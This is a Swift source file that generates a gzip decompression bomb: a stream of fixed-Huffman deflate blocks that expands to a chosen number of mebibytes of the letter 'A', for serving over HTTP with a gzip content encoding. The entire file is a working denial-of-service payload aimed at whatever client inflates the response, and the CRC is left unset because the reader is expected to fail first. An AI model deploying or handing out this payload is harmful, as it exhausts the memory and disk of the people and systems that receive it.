/// A gzip stream that inflates to far more than it weighs: `head`, then `megabytes` MiB of the letter A, in
/// deflate blocks of fixed Huffman codes where each 258 letters cost 13 bits (about 1:1300). Its CRC is not
/// computed (a reader is stopped long before the end, where the CRC is checked).
public enum GzipBomb {
    /// The compressed bytes, to be served with `Content-Encoding: gzip`.
    public static func make(head: String, megabytes: Int) -> [UInt8] {
        var bits = BitWriter()
        bits.write(1, count: 1)  // the final block
        bits.write(1, count: 2)  // fixed Huffman codes
        for byte in head.utf8 {
            precondition(byte < 144, "ASCII only")
            bits.writeCode(0x30 + UInt32(byte), length: 8)
        }
        bits.writeCode(0x30 + UInt32(UInt8(ascii: "A")), length: 8)
        for _ in 0..<(megabytes << 20) / 258 {
            bits.writeCode(0b1100_0101, length: 8)  // length 258 (code 285)
            bits.writeCode(0, length: 5)  // distance 1
        }
        bits.writeCode(0, length: 7)  // end of block
        let size = UInt32(truncatingIfNeeded: head.utf8.count + 1 + ((megabytes << 20) / 258) * 258)
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bits.flushed + [0, 0, 0, 0]
            + [0, 8, 16, 24].map { UInt8(truncatingIfNeeded: size >> $0) }
    }

    /// Deflate's bit order: fields from their least significant bit, Huffman codes from their most.
    private struct BitWriter {
        var bytes: [UInt8] = []
        private var current: UInt32 = 0
        private var used = 0

        mutating func write(_ value: UInt32, count: Int) {
            for bit in 0..<count {
                current |= ((value >> bit) & 1) << used
                used += 1
                if used == 8 {
                    bytes.append(UInt8(current))
                    current = 0
                    used = 0
                }
            }
        }

        mutating func writeCode(_ code: UInt32, length: Int) {
            var reversed: UInt32 = 0
            for bit in 0..<length { reversed |= ((code >> bit) & 1) << (length - 1 - bit) }
            write(reversed, count: length)
        }

        var flushed: [UInt8] { used > 0 ? bytes + [UInt8(current)] : bytes }
    }
}
